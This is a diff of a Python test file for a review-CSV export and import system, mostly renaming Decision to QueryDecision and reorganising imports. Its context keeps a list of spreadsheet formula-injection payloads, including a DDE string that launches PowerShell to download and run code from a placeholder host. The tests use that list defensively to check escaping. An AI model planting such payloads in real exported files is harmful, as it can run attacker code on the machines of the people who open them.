@@ -18,11 +18,9 @@ from hypothesis import strategies as st
 
 from backends.sets.review_csv import escape_formula, read_review_csv, unescape_formula, write_review_csv
 from builders.benchmark_set import Tables
-from builders.decisions import Decision, apply_decisions
-from builders.errors import UserError
-from builders.ledger import Ledger
-from builders.records import from_arrow, to_arrow
-from builders.review_tables import (
+from builders.decisions.application import apply_decisions
+from builders.decisions.records import QueryDecision
+from builders.decisions.review_tables import (
     ImportTolerances,
     ReviewExport,
     ReviewImportResult,
@@ -30,6 +28,9 @@ from builders.review_tables import (
     export_queries,
     read_filled_table,
 )
+from builders.errors import UserError
+from builders.ledger import Ledger
+from builders.records import from_arrow, to_arrow
 
 PAYLOADS = [
     "=1+1", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget x)'!A0", '=HYPERLINK("http://x.example","click")',
@@ -150,7 +151,7 @@ def test_no_cell_begins_a_formula_and_every_cell_comes_back(where: str, tmp_path
 def test_a_note_that_is_a_formula_is_evidence_in_the_next_version_and_still_runs_nowhere(tmp_path: Path) -> None:
     tables = tables_of(["狗"])
     for payload in PAYLOADS:
-        grade = Decision("q_000", "狗", "grade", "img_a", relevance=1, note=payload)
+        grade = QueryDecision("q_000", "狗", "grade", "img_a", relevance=1, note=payload)
         after, _ = apply_decisions(tables, [grade], Ledger())
         write_review_csv(export_judgments(after, "pets/v2", "d2", 9), tmp_path / "out.csv")
         assert not [cell for row in cells_of(tmp_path / "out.csv") for cell in row if begins_risky(cell)]
@@ -349,7 +350,7 @@ def test_damage_is_refused_with_its_row_or_changes_no_decision(
     ]  # fmt: skip
     save(path, damage(cells_of(path)))
     if says == SAME:
-        key = Decision.as_json
+        key = QueryDecision.as_json
         assert sorted(taken(export, path).decisions, key=key) == sorted(undamaged, key=key)
     else:
         assert re.search(says, refusal(export, path))
